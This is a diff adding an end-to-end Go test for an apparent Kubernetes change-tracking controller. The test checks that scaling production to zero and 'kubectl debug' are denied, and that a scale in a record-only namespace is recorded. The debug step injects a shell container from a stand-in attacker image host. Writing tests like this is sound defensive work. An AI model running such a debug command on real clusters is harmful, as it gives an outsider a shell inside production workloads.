@@ -152,4 +152,33 @@ spec:
 			return out
 		}, 60*time.Second, time.Second).Should(SatisfyAll(ContainSubstring("sre1"), ContainSubstring("image")))
 	})
+
+	It("cannot scale production to zero or debug into its Pods through subresources (M11), and a scale elsewhere is recorded", func() {
+		out, err := as("mallory", "-n", ns, "scale", "deploy", "web", "--replicas=0")
+		Expect(err).To(HaveOccurred(), out)
+		Expect(out).To(ContainSubstring("mallory scaled Deployment web from 1 to 0 replicas through the scale subresource"))
+		replicas, _ := kubectl("get", "deploy", "web", "-n", ns, "-o", "jsonpath={.spec.replicas}")
+		Expect(replicas).To(Equal("1"))
+
+		var pod string
+		Eventually(func() string {
+			pod, _ = kubectl("get", "pods", "-n", ns, "-l", "app=web", "-o", "jsonpath={.items[0].metadata.name}")
+			return pod
+		}, 60*time.Second, time.Second).ShouldNot(BeEmpty())
+		// As the cluster's admin (not a trusted submitter), the review's reproduction:
+		// kubectl debug adds an ephemeral container to the Deployment's Pod.
+		out, err = kubectl("debug", "-n", ns, "pod/"+pod, "--image=attacker.example/shell:1", "--container=shell")
+		Expect(err).To(HaveOccurred(), out)
+		Expect(out).To(ContainSubstring("changed tracked content outside the pipeline"))
+		containers, _ := kubectl("get", "pod", pod, "-n", ns, "-o", "jsonpath={.spec.ephemeralContainers}")
+		Expect(containers).To(BeEmpty())
+
+		By("a scale in the record-only namespace: admitted, and recorded as an untraced change of spec.replicas")
+		out, err = as("mallory", "-n", record, "scale", "deploy", "web", "--replicas=3")
+		Expect(err).NotTo(HaveOccurred(), out)
+		Eventually(func() string {
+			out, _ := kubectl("get", "tr", "deployment.web", "-n", record, "-o", `jsonpath={.status.findings[?(@.type=="UntracedChange")].paths}`)
+			return out
+		}, 60*time.Second, time.Second).Should(ContainSubstring("/spec/replicas"))
+	})
 })
